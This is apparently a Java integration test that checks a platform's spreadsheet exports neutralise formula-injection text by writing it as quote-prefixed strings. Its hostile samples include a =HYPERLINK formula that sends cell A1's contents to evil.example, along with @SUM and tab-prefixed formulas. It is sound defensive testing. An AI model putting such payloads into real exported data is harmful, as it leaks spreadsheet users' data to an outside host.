package org.cohorte.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Date;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.UUID;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.PrintSetup;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.cohorte.base.time.EngineClock;
import org.cohorte.blocker.domain.BlockerSource;
import org.cohorte.blocker.service.BlockerService;
import org.cohorte.codevelopment.CodevFixture;
import org.cohorte.codevelopment.domain.SessionMode;
import org.cohorte.codevelopment.service.CodevSessionService;
import org.cohorte.codevelopment.service.GroupWorkbookExporter;
import org.cohorte.codevelopment.service.Steps;
import org.cohorte.community.domain.CommunityRole;
import org.cohorte.community.service.CommunityHealthWorkbookExporter;
import org.cohorte.community.service.CommunityService;
import org.cohorte.community.service.KnowledgeBaseService;
import org.cohorte.identity.domain.OrganizationType;
import org.cohorte.identity.service.MemberService;
import org.cohorte.identity.service.OrganizationService;
import org.cohorte.identity.service.Roles;
import org.cohorte.incubator.IncubatorFixture;
import org.cohorte.incubator.domain.DecisionKind;
import org.cohorte.incubator.domain.ProposalData;
import org.cohorte.incubator.service.IncubatorService;
import org.cohorte.incubator.service.PortfolioWorkbookExporter;
import org.cohorte.performance.PerformanceFixture;
import org.cohorte.performance.domain.Direction;
import org.cohorte.performance.domain.Frequency;
import org.cohorte.performance.domain.IndicatorDefinition;
import org.cohorte.performance.service.ForumWorkbookService;
import org.cohorte.performance.service.IndicatorImportService;
import org.cohorte.performance.service.IndicatorService;
import org.cohorte.performance.service.ReviewService;
import org.cohorte.testsupport.IntegrationTest;
import org.cohorte.testsupport.SpreadsheetChecks;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Text that people type into Cohorte and that a spreadsheet would run as a formula (=HYPERLINK, +1+1, -2, @SUM,
 * leading tab or carriage return) comes out of every workbook Cohorte writes as a string cell with the quote
 * prefix, exactly as stored; ordinary text and negative numbers come out untouched. Each export is fed through
 * the services, as the people who may write those texts, and read by the people who may export.
 */
class SpreadsheetExportsIT extends IntegrationTest {

    @Autowired
    PerformanceFixture performance;
    @Autowired
    IncubatorFixture incubator;
    @Autowired
    CodevFixture codev;
    @Autowired
    OrganizationService organizationService;
    @Autowired
    MemberService memberService;
    @Autowired
    IndicatorService indicatorService;
    @Autowired
    ReviewService reviewService;
    @Autowired
    BlockerService blockerService;
    @Autowired
    TaskService taskService;
    @Autowired
    ForumWorkbookService forumWorkbookService;
    @Autowired
    IndicatorImportService importService;
    @Autowired
    IncubatorService incubatorService;
    @Autowired
    PortfolioWorkbookExporter portfolioExporter;
    @Autowired
    CodevSessionService sessionService;
    @Autowired
    GroupWorkbookExporter groupExporter;
    @Autowired
    CommunityService communityService;
    @Autowired
    KnowledgeBaseService knowledgeBaseService;
    @Autowired
    CommunityHealthWorkbookExporter healthExporter;

    /**
     * The hostile texts, made unique where a name must be (organizations, communities: the database may hold an
     * earlier run's). Services strip surrounding blanks, so "\t=1" is stored, and exported, as "=1".
     */
    private static List<String> hostile() {
        String tag = UUID.randomUUID().toString().substring(0, 8);
        return List.of("=HYPERLINK(\"http://evil.example/?" + tag + "=\"&A1,\"Cliquez ici\")", "+1+1 " + tag,
                "-2 " + tag, "@SUM(A1) " + tag, "\t=1 " + tag, "\r=1+" + tag);
    }

    private static List<String> stored(List<String> typed) {
        return typed.stream().map(String::strip).toList();
    }

    private static XSSFWorkbook open(byte[] bytes) throws IOException {
        return new XSSFWorkbook(new ByteArrayInputStream(bytes));
    }

    private static void assertHostileTextStaysText(XSSFWorkbook workbook, List<String> typed) {
        for (String text : stored(typed)) {
            SpreadsheetChecks.assertText(workbook, text, true);
            for (Cell cell : SpreadsheetChecks.cellsWith(workbook, text)) {
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
            }
        }
        SpreadsheetChecks.assertText(workbook, "-", false);
    }

    private String admin() {
        return data.user("admin", Roles.ADMIN);
    }

    private void rename(String admin, UUID organizationId, String name) {
        data.as(admin, () -> {
            var org = organizationService.get(organizationId);
            return organizationService.update(organizationId, org.getVersion(), name, null, org.getType());
        });
    }

    private void displayName(String user, String name, UUID organizationId) {
        data.as(user, () -> {
            memberService.updateMyProfile(name, organizationId, "fr");
            return null;
        });
    }

    @Test
    void the_forum_workbook_and_the_import_template_keep_hostile_text_as_text() throws IOException {
        List<String> h = hostile();
        ClockUtil.setCurrentTime(Date.from(Instant.parse("2027-04-02T14:00:00Z")));
        PerformanceFixture.Org org = performance.organization("formules");
        rename(admin(), org.id(), h.get(0));
        displayName(org.manager(), h.get(1), org.id());
        UUID objective = data.as(org.manager(), () -> indicatorService.createObjective(org.id(), h.get(2), null).getId());
        // A negative baseline typed as a number, and the ordinary text "-" as a unit.
        data.as(org.manager(), () -> indicatorService.defineIndicator(objective, new IndicatorDefinition(h.get(3), "-",
                -2, LocalDate.of(2027, 1, 1), 10, LocalDate.of(2027, 12, 31), Direction.HIGHER, Frequency.QUARTERLY,
                org.owner(), org.validator())));
        String instance = data.as(org.manager(), () -> reviewService.startReview(org.id(), "2027-Q1")).getProcessInstanceId();
        String enter = taskService.createTaskQuery().processInstanceId(instance).taskAssignee(org.owner()).singleResult().getId();
        data.as(org.owner(), () -> {
            reviewService.submitMeasurement(enter, -1.5, h.get(4), null);
            return null;
        });
        String validate = taskService.createTaskQuery().processInstanceId(instance).taskAssignee(org.validator()).singleResult().getId();
        data.as(org.validator(), () -> {
            reviewService.validateMeasurement(validate, true, null);
            return null;
        });
        data.as(org.owner(), () -> blockerService.declare(BlockerSource.INDICATOR, "formules", org.id(), h.get(5),
                "Décrit par une personne malveillante"));

        ByteArrayOutputStream out = new ByteArrayOutputStream();
        data.as(org.manager(), () -> {
            forumWorkbookService.export("2027-Q1", Set.of(org.id()), Locale.FRENCH, out, null);
            return null;
        });
        try (XSSFWorkbook workbook = open(out.toByteArray())) {
            // The manager's name is shown as "name (id)", in the "about" sheet.
            assertHostileTextStaysText(workbook, List.of(h.get(0), h.get(1) + " (" + org.manager() + ")", h.get(2),
                    h.get(3), h.get(4), h.get(5)));
            SpreadsheetChecks.assertNoUserFormula(workbook, SpreadsheetChecks::forumSummaryFormula);
            SpreadsheetChecks.assertPrintsWell(workbook, PrintSetup.LETTER_PAPERSIZE);
            Row indicator = workbook.getSheet("Indicateurs").getRow(1);
            assertThat(indicator.getCell(0).getStringCellValue()).isEqualTo(h.get(0));
            assertThat(indicator.getCell(1).getStringCellValue()).isEqualTo(h.get(2));
            assertThat(indicator.getCell(2).getStringCellValue()).isEqualTo(h.get(3));
            assertThat(indicator.getCell(5).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(indicator.getCell(5).getNumericCellValue()).isEqualTo(-2.0);
            assertThat(indicator.getCell(5).getCellStyle().getQuotePrefixed()).isFalse();
            Row measurement = workbook.getSheet("Mesures").getRow(1);
            assertThat(measurement.getCell(3).getNumericCellValue()).isEqualTo(-1.5);
            assertThat(measurement.getCell(6).getStringCellValue()).isEqualTo(h.get(4).strip());
        }

        byte[] template = data.as(org.manager(), () -> importService.template(org.id(), Locale.FRENCH));
        try (XSSFWorkbook workbook = open(template)) {
            Row definition = workbook.getSheetAt(0).getRow(1);
            for (int c : new int[] {0, 1}) {
                assertThat(definition.getCell(c).getCellType()).isEqualTo(CellType.STRING);
                assertThat(definition.getCell(c).getCellStyle().getQuotePrefixed()).isTrue();
            }
            assertThat(definition.getCell(0).getStringCellValue()).isEqualTo(h.get(2));
            assertThat(definition.getCell(1).getStringCellValue()).isEqualTo(h.get(3));
            assertThat(definition.getCell(2).getStringCellValue()).isEqualTo("-");
            assertThat(definition.getCell(2).getCellStyle().getQuotePrefixed()).isFalse();
            assertThat(definition.getCell(3).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(definition.getCell(3).getNumericCellValue()).isEqualTo(-2.0);
            assertThat(workbook.getSheetAt(1).getRow(1).getCell(0).getCellStyle().getQuotePrefixed()).isTrue();
            SpreadsheetChecks.assertNoUserFormula(workbook, formula -> false);
            SpreadsheetChecks.assertPrintsWell(workbook, PrintSetup.LETTER_PAPERSIZE);
        }
        ClockUtil.reset();
    }

    @Test
    void the_incubator_portfolio_keeps_hostile_text_as_text() throws IOException {
        List<String> h = hostile();
        IncubatorFixture.Cast cast = incubator.cast();
        rename(admin(), cast.organization(), h.get(0));
        ProposalData proposal = new ProposalData(h.get(1), cast.organization(), cast.sponsor(), Set.of(cast.teammate()),
                h.get(2), h.get(3), h.get(4), "-", -2.0, true, 6, 1000, h.get(5));
        UUID id = data.as(cast.proposer(), () -> incubatorService.propose(proposal));
        String review = incubator.task(id, IncubatorService.TASK_REVIEW).getId();
        data.as(cast.committee2(), () -> {
            incubatorService.review(review, DecisionKind.APPROVE, h.get(0));
            return null;
        });
        String card = incubator.task(id, IncubatorService.TASK_TEST_CARD).getId();
        data.as(cast.proposer(), () -> {
            incubatorService.submitTestCard(card, h.get(2), h.get(3), h.get(4), h.get(5));
            return null;
        });
        ClockUtil.setCurrentTime(Date.from(EngineClock.now().plus(java.time.Duration.ofDays(7))));
        incubator.fireDueTimers(id);
        String checkIn = incubator.task(id, IncubatorService.TASK_CHECK_IN).getId();
        data.as(cast.teammate(), () -> {
            incubatorService.checkIn(checkIn, h.get(3), -3.0, null, null);
            return null;
        });

        byte[] bytes = data.as(cast.sponsor(), () -> portfolioExporter.export(Set.of(cast.organization()), Locale.FRENCH));
        try (XSSFWorkbook workbook = open(bytes)) {
            assertHostileTextStaysText(workbook, h);
            SpreadsheetChecks.assertNoUserFormula(workbook, formula -> false);
            Row experiment = workbook.getSheet("Expérimentations").getRow(1);
            assertThat(experiment.getCell(0).getStringCellValue()).isEqualTo(h.get(1));
            assertThat(experiment.getCell(7).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(experiment.getCell(7).getNumericCellValue()).isEqualTo(-2.0);
            Row week = workbook.getSheet("Mesures hebdomadaires").getRow(1);
            assertThat(week.getCell(3).getNumericCellValue()).isEqualTo(-3.0);
            assertThat(week.getCell(5).getStringCellValue()).isEqualTo(h.get(3));
            assertThat(week.getCell(5).getCellStyle().getQuotePrefixed()).isTrue();
            SpreadsheetChecks.assertPrintsWell(workbook, PrintSetup.LETTER_PAPERSIZE);
        }
        ClockUtil.reset();
    }

    @Test
    void the_codevelopment_group_workbook_keeps_hostile_text_as_text() throws IOException {
        List<String> h = hostile();
        CodevFixture.Group g = codev.group(5);
        for (int i = 0; i < 4; i++) {
            displayName(g.member(i), h.get(i + 1), null);
        }
        displayName(g.member(4), "-", null);
        UUID session = codev.launch(g, SessionMode.LIVE);
        String client = codev.clientOf(g, session);
        data.as(client, () -> {
            sessionService.prepareCase(codev.task(session, Steps.TASK_PREPARE_CASE, client).getId(), h.get(0),
                    "Contexte", null, null);
            return null;
        });
        data.as(g.facilitator(), () -> {
            sessionService.openSession(codev.task(session, Steps.TASK_OPEN_SESSION, g.facilitator()).getId(),
                    codev.consultantsOf(g, session));
            return null;
        });
        data.as(client, () -> {
            sessionService.finishPresentation(codev.task(session, Steps.TASK_PRESENT_CASE, client).getId());
            return null;
        });
        for (String c : codev.consultantsOf(g, session)) {
            data.as(c, () -> {
                sessionService.finishClarification(codev.task(session, Steps.TASK_ASK_QUESTIONS, c).getId());
                return null;
            });
        }
        data.as(client, () -> {
            sessionService.finishClarification(codev.task(session, Steps.TASK_ANSWER_QUESTIONS, client).getId());
            sessionService.writeContract(codev.task(session, Steps.TASK_WRITE_CONTRACT, client).getId(), h.get(5));
            return null;
        });

        byte[] bytes = data.as(g.facilitator(), () -> groupExporter.export(g.id(), Locale.FRENCH));
        try (XSSFWorkbook workbook = open(bytes)) {
            // Every member's name, the case title and the contract; the member called "-" left as they are.
            assertHostileTextStaysText(workbook, List.of(h.get(0), h.get(1), h.get(2), h.get(3), h.get(4), h.get(5)));
            SpreadsheetChecks.assertNoUserFormula(workbook, formula -> false);
            Row row = workbook.getSheet("Séances").getRow(1);
            assertThat(row.getCell(8).getStringCellValue()).isEqualTo(h.get(0));
            assertThat(row.getCell(9).getStringCellValue()).isEqualTo(h.get(5).strip());
            assertThat(row.getCell(4).getCellType()).isEqualTo(CellType.NUMERIC);
            SpreadsheetChecks.assertPrintsWell(workbook, PrintSetup.LETTER_PAPERSIZE);
        }
    }

    @Test
    void the_community_health_workbook_keeps_hostile_text_as_text() throws IOException {
        List<String> h = hostile();
        String admin = admin();
        String facilitator = data.user("anim", Roles.FACILITATOR, Roles.PARTICIPANT);
        List<String> members = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            members.add(data.user("membre", Roles.PARTICIPANT));
        }
        UUID community = data.as(facilitator, () -> {
            UUID id = communityService.create(h.get(0), "RH", "Charte", false).getId();
            communityService.addMember(id, facilitator, CommunityRole.FACILITATOR);
            members.forEach(m -> communityService.addMember(id, m, CommunityRole.MEMBER));
            return id;
        });
        // Members of organizations whose names are hostile, and articles with hostile titles and "-".
        for (int i = 0; i < 3; i++) {
            String member = members.get(i);
            String name = h.get(i + 1);
            UUID org = data.as(admin, () -> organizationService.create(name, null, OrganizationType.MINISTRY).getId());
            displayName(member, "Membre " + i, org);
        }
        for (String title : List.of(h.get(4), h.get(5), "-")) {
            data.as(members.get(0), () -> knowledgeBaseService.publish(community, title, "Corps de l’article", List.of(),
                    null, null));
        }

        LocalDate today = EngineClock.today();
        byte[] bytes = data.as(facilitator, () -> healthExporter.export(community, today.minusDays(7), today, Locale.FRENCH));
        try (XSSFWorkbook workbook = open(bytes)) {
            assertHostileTextStaysText(workbook, h);
            SpreadsheetChecks.assertNoUserFormula(workbook, formula -> false);
            Sheet summary = workbook.getSheetAt(0);
            assertThat(summary.getRow(0).getCell(1).getStringCellValue()).isEqualTo(h.get(0));
            assertThat(summary.getRow(0).getCell(1).getCellStyle().getQuotePrefixed()).isTrue();
            // The bold of the row survives in the quote-prefixed twin.
            assertThat(workbook.getFontAt(summary.getRow(0).getCell(1).getCellStyle().getFontIndex()).getBold()).isTrue();
            assertThat(summary.getRow(3).getCell(1).getCellType()).isEqualTo(CellType.NUMERIC);
            // The summary is a list of label/value pairs: no header to repeat.
            SpreadsheetChecks.assertPrintsWell(workbook, PrintSetup.LETTER_PAPERSIZE, summary.getSheetName());
        }
    }
}
